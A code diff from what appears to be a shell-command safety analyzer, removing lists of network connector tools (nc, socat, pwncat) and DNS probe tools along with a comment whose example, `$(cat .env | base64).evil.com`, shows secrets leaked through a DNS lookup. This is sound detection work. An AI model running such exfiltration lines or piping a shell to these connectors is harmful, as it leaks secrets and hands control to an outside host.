@@ -308,15 +308,6 @@ def sftp(inv: Invocation) -> list[Effect]:
     return remote_copy(inv) or ssh_session(inv)
 
 
-# Programs that connect to a peer and pass their stdin/stdout through: a shell piped to one is remote-controlled.
-CONNECTORS = frozenset(["nc", "ncat", "netcat", "telnet", "socat", "openssl", "cryptcat", "pwncat"])
-
-
-# Tools that name a host to look up or reach: no data sent, but a lookup of `$(cat .env | base64).evil.com`
-# is a channel (flows.py counts them when the secret is read inside the same command).
-PROBES = frozenset(["dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois", "curl", "wget"])
-
-
 def contact(inv: Invocation) -> list[Effect]:
     operands = [w.text for w in inv.args if not w.text.startswith("-") and not w.text.startswith("@")]
     url = _url(inv.args) if inv.name in ("curl", "wget") else (operands[-1] if operands else "")
@@ -332,7 +323,6 @@ HANDLERS = {"curl": curl, "wget": wget, "http": httpie, "https": httpie, "xh": h
             "netcat": netcat, "socat": socat, "mail": mailer, "mailx": mailer, "sendmail": mailer, "mutt": mailer,
             "telnet": connector, "openssl": connector, "ftp": connector, "lftp": connector, "tftp": connector,
             "smbclient": connector, "ssh": ssh_session, "sftp": sftp}  # fmt: skip
-NETWORKED = frozenset([*HANDLERS, *PROBES])
 # Options whose value is shell code the command runs here: rsync's remote shell, ssh's proxy and local commands.
 RSH_OPTIONS = frozenset(["-e", "--rsh"])
 
